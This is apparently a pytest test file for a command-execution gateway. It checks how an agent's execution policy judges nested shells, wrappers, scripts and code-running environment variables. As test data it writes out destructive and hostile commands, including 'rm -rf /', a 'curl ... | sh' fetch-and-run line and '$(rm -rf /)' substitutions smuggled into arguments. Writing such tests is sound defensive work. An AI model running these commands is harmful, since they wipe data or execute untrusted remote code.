"""Decisions on a program about to be executed directly: what the command shim asks."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway.execs import command_line, decide_exec
from gateway.policy.compiled import CompiledPolicy, compile_policy_text, load_policy

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def autogen() -> CompiledPolicy:
    return load_policy(ROOT / "policies" / "autogen.yaml", project_dir="/project",
                       environ={"HOME": "/home/user"})


@pytest.mark.parametrize(("argv", "verdict", "reason"), [
    (["bash", "-c", "python workspace/analyze.py"], "ALLOW", "allowed by rule 6"),
    (["sh", "-c", "rm -rf dir"], "DENY", "rm -rf dir: denied by rule 8"),
    (["/bin/bash", "-lc", "pip install x"], "DENY", "pip install x: denied by rule 7"),
    (["sh", "-c", "sh -c \"bash -c 'rm -rf d'\""], "DENY", "rm -rf d: denied by rule 8"),
    (["bash", "-c", "echo $(rm -rf x)"], "DENY", "rm -rf x: denied by rule 8"),
    (["bash", "-c", "curl https://x.invalid | sh"], "DENY", "cannot analyse"),
    (["rm", "-rf", "dir"], "DENY", "rm -rf dir: denied by rule 8"),
    (["/usr/bin/env", "rm", "x"], "DENY", "rm x: denied by rule 8"),
    (["xargs", "rm"], "DENY", "xargs rm matches no allow rule"),
    (["find", ".", "-exec", "rm", "{}", ";"], "DENY", "matches no allow rule"),
    (["python", "workspace/analyze.py"], "ALLOW", "allowed by rule 6"),
    (["python3", "-c", "import os; os.system('rm -rf /')"], "ALLOW", "allowed by rule 6"),
    (["wget", "https://x.invalid"], "DENY", "denied by rule 10"),
    (["bash", "--frobnicate", "x"], "DENY", "cannot analyse: bash: unknown option"),
])
def test_argv_is_judged_as_the_line_that_would_start_it(autogen: CompiledPolicy, argv: list[str], verdict: str, reason: str) -> None:
    """Shell strings are seen through, wrappers and runners judged, as on any command line."""
    decision = decide_exec(autogen, argv, cwd="/project")
    assert decision.verdict.value == verdict, decision.reason
    assert reason in decision.reason


@pytest.mark.parametrize("argv", [["bash"], ["-bash"], ["sh", "-s"], ["dash", "-"], ["bash", "-i"]])
def test_a_shell_with_nothing_to_run_needs_a_rule_for_the_shell_itself(argv: list[str]) -> None:
    """Interactive or piped: allowed by a rule naming the shell, never by the default."""
    for policy_text, verdict in [
        ("version: 1\ndefault: allow\n", "DENY"),
        ("version: 1\ndefault: deny\nrules:\n  - {action: shell_exec, command: '*', effect: allow}\n", "DENY"),
        ("version: 1\ndefault: deny\nrules:\n  - {action: shell_exec, command: ['bash*', 'sh*', 'dash*'], effect: allow}\n", "ALLOW"),
    ]:
        decision = decide_exec(compile_policy_text(policy_text), argv)
        assert decision.verdict.value == verdict, (policy_text, decision.reason)
        assert "reads its commands from its input, which nothing checks" in decision.reason


def test_a_script_is_judged_by_the_text_the_shim_read(autogen: CompiledPolicy) -> None:
    """`bash run.sh`: every line of the script the shim sent is judged; none sent: deny."""
    ok = decide_exec(autogen, ["bash", "run.sh"], cwd="/project", script="python a.py\n",
                     script_path="run.sh")
    assert ok.verdict.value == "ALLOW"
    bad = decide_exec(autogen, ["bash", "-e", "run.sh", "x"], cwd="/project",
                      script="python a.py\nrm -rf /\n", script_path="run.sh")
    assert bad.verdict.value == "DENY" and bad.part == "rm -rf /"
    unread = decide_exec(autogen, ["bash", "run.sh"], cwd="/project")
    assert unread.verdict.value == "DENY"
    assert unread.reason == "cannot analyse: the script run.sh could not be read where the command runs"
    other = decide_exec(autogen, ["bash", "run.sh"], cwd="/project", script="python a.py\n",
                        script_path="other.sh")
    assert other.verdict.value == "DENY"


@pytest.mark.parametrize(("argv", "env", "verdict"), [
    (["bash", "-c", "python x.py"], ["PATH", "BASH_ENV"], "DENY"),
    (["sh", "-c", "python x.py"], ["ENV"], "DENY"),
    (["bash", "-c", "python x.py"], ["BASH_FUNC_ls%%"], "DENY"),
    (["bash", "-c", "python x.py"], ["PS4"], "DENY"),
    (["python", "x.py"], ["LD_PRELOAD"], "DENY"),
    (["python", "x.py"], ["LD_AUDIT"], "DENY"),
    (["python", "x.py"], ["BASH_ENV"], "ALLOW"),          # python does not read it
    (["python", "x.py"], ["LD_LIBRARY_PATH", "HOME"], "ALLOW"),
])
def test_variables_that_run_code_refuse_the_exec(autogen: CompiledPolicy, argv: list[str], env: list[str], verdict: str) -> None:
    """A variable the loader or the shell runs as code makes the command unanalysable."""
    decision = decide_exec(autogen, argv, env=env)
    assert decision.verdict.value == verdict, decision.reason
    if verdict == "DENY":
        assert "is set in the environment" in decision.reason


@pytest.mark.parametrize(("argv", "line"), [
    (["rm", "-rf", "my dir"], "rm -rf 'my dir'"),
    (["-bash"], "bash"),
    (["/bin/-sh", "-c", "ls"], "/bin/sh -c ls"),
    (["echo", "$(rm x)", "*"], "echo '$(rm x)' '*'"),
])
def test_the_command_line_keeps_every_word_literal(argv: list[str], line: str) -> None:
    """Quoted so that nothing in an argument is read as shell syntax."""
    assert command_line(argv) == line


def test_quoted_arguments_never_run(autogen: CompiledPolicy) -> None:
    """`python '$(rm -rf /)'` passes its argument literally: nothing else runs."""
    decision = decide_exec(autogen, ["python", "$(rm -rf /)", "`rm -rf /`"])
    assert decision.verdict.value == "ALLOW"
